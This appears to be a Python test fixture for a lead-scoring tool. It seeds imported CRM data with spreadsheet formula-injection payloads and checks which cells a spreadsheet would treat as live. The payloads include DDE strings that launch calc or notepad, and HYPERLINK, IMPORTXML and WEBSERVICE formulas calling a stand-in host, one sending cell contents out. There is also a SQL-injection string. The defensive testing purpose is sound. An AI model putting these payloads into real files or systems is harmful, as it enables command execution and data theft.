"""A hundred texts and more that a spreadsheet might run, a company in which they stand everywhere, and what is live.

`is_live` shares no code with the product: it says what spreadsheets take for a formula.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import datetime
from pathlib import Path
from xml.etree import ElementTree

from leadscore import importing
from leadscore.store import workspace

NOW = datetime.fromisoformat("2026-11-02T09:00:00")

BODIES = (
    "1+1",
    "cmd|'/C calc'!A0",
    'HYPERLINK("http://192.0.2.1/?x="&A1,"open")',
    'IMPORTXML("http://192.0.2.1","//a")',
    'WEBSERVICE("http://192.0.2.1/")',
    "SUM(1+1)*cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"x")',
    "A1",
    "'; DROP TABLE leads; --",
    "2+5+cmd|' /C notepad'!A0",
)
SIGNS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
BEFORE = (" ", "\t", "\u00a0", "\u200b", "\ufeff", "'", "''", "\u202e", "\x00", "\v", "\u3000", "\r")

PAYLOADS = tuple(
    dict.fromkeys(
        [
            *(sign + body for sign in SIGNS for body in BODIES),
            *(before + "=" + BODIES[0] for before in BEFORE),
            *(before + "@" + BODIES[1] for before in BEFORE),
            "=",
            "==1",
            "-",
            "+-=@",
            "\t1",
            "\r1",
            "\n=1+1",
            "-1+1",
            "-1_000",
            "--1",
            "|calc",
            "%0A=1",
            "=1+1\n=2+2",
            '"=1+1',
            "=\u202e1+1",
            "-\uff11\uff12",
            "=1,=2;=3\t=4",
        ]
    )
)
"""Texts as they may come out of a CRM."""

HARMLESS = ("Ada", "-5", "+5", "-0.5", "1e3", "", "O'Brien", "'hello", "a=b", "a@example.org", "C#", "5 % off")
"""Texts that stay as they are."""

_NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?([eE][+-]?[0-9]+)?\Z")
_HIDDEN = re.compile("[\\s\x00-\x1f\x7f-\x9f\u00ad\u200b-\u200f\u202a-\u202e\u2060-\u2064\ufeff]*")


def is_live(cell: str) -> bool:
    """Whether a spreadsheet may take that cell of a CSV file, or a pasted one, for more than a text or a number."""
    if _NUMBER.match(cell):
        return False
    hidden = _HIDDEN.match(cell)
    rest = cell[hidden.end() :] if hidden else cell
    return rest[:1] in tuple("=+-@\uff1d\uff0b\uff0d\uff20") or cell[:1] in ("\t", "\r", "\n")


def cells_of(content: bytes) -> list[list[str]]:
    """The cells of a CSV file, header included."""
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def live_in_workbook(file: Path | io.BytesIO) -> list[str]:
    """Everything in an Excel workbook that is more than a text or a number."""
    found = []
    with zipfile.ZipFile(file) as packed:
        for name in packed.namelist():
            if "externalLink" in name or "vba" in name.lower() or "connections" in name:
                found.append(name)
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                tags = [each.tag.rpartition("}")[2] for each in ElementTree.fromstring(packed.read(name)).iter()]
                found += [f"{name}: {tag}" for tag in tags if tag in ("f", "hyperlink", "oleObject")]
    return found


def armed(folder: Path) -> Path:
    """A workspace in which each lead bears one of the texts wherever a text may stand, under such a model."""
    source = folder / "files"
    source.mkdir(parents=True)
    leads = [["id", "created", *ATTRIBUTES, "=1+1"]]
    deeds, steps = [["id", "when", "what", "detail", "who"]], [["id", "step", "since", "why"]]
    for place, text in enumerate(PAYLOADS):
        day = f"2026-01-{1 + place % 28:02}"
        leads.append([text, day, *[text] * len(ATTRIBUTES), text])
        deeds += [
            [text, f"{day} 10:00", "demo_requested", text, "lead"],
            [text, f"{day} 11:00", text, text, text],
            [text, f"{day} 15:00", "call", text, text],
        ]
        steps.append([text, "mql", f"{day} 12:00", text])
        steps += [[text, "sql", f"{day} 18:00", text]] * (place % 3 == 0)
        steps += [[text, "rejected", f"{day} 19:00", text]] * (place % 5 == 4)
    leads += [["", "2026-01-05", *[text] * len(ATTRIBUTES), text] for text in PAYLOADS]
    for name, rows in {"=leads": leads, "deeds": deeds, "steps": steps}.items():
        with (source / f"{name}.csv").open("w", encoding="utf-8", newline="") as opened:
            csv.writer(opened).writerows(rows)
    (source / "mapping.yaml").write_text(MAPPING, encoding="utf-8")
    made = workspace.create(folder / "room")
    importing.run(made, source / "mapping.yaml", now=NOW)
    made.model.write_text(MODEL, encoding="utf-8")
    return made.folder


ATTRIBUTES = ("name", "company", "title", "email", "owner", "source", "campaign", "industry", "account_id")
MAPPING = f"""
zone: UTC
data_date: "2026-06-30"
captured_at_form: [{", ".join(ATTRIBUTES)}]
leads:
  - {{file: "=leads.csv", dialect: {{delimiter: ",", encoding: utf-8}}, lead_id: id, created_at: created, keep: all}}
activities:
  - {{file: deeds.csv, dialect: {{delimiter: ",", encoding: utf-8}}, lead_id: id, occurred_at: when, kind: what,
     detail: detail, actor: who}}
stages:
  - {{file: steps.csv, dialect: {{delimiter: ",", encoding: utf-8}}, lead_id: id, stage: step, entered_at: since,
     reason: why}}
"""
MODEL = """
name: "=1+1"
groups: {"-2": {cap: 40}, "-group": {cap: 60}}
population: {exclude: [{attribute: title, is: "@nobody"}]}
rules:
  - {id: "-vp", label: "@SUM(1+1)", group: "-2", points: 20, when: {attribute: title, contains: "="}}
  - {id: "-demo", label: "-1+1", group: "-group", points: 30, when: {activity: demo_requested}}
  - {id: kind, label: "=cmd|'/C calc'!A0", group: "-group", points: 10, when: {activity: "=1+1"}}
cut_offs: {mql: 20, sql: 40}
"""
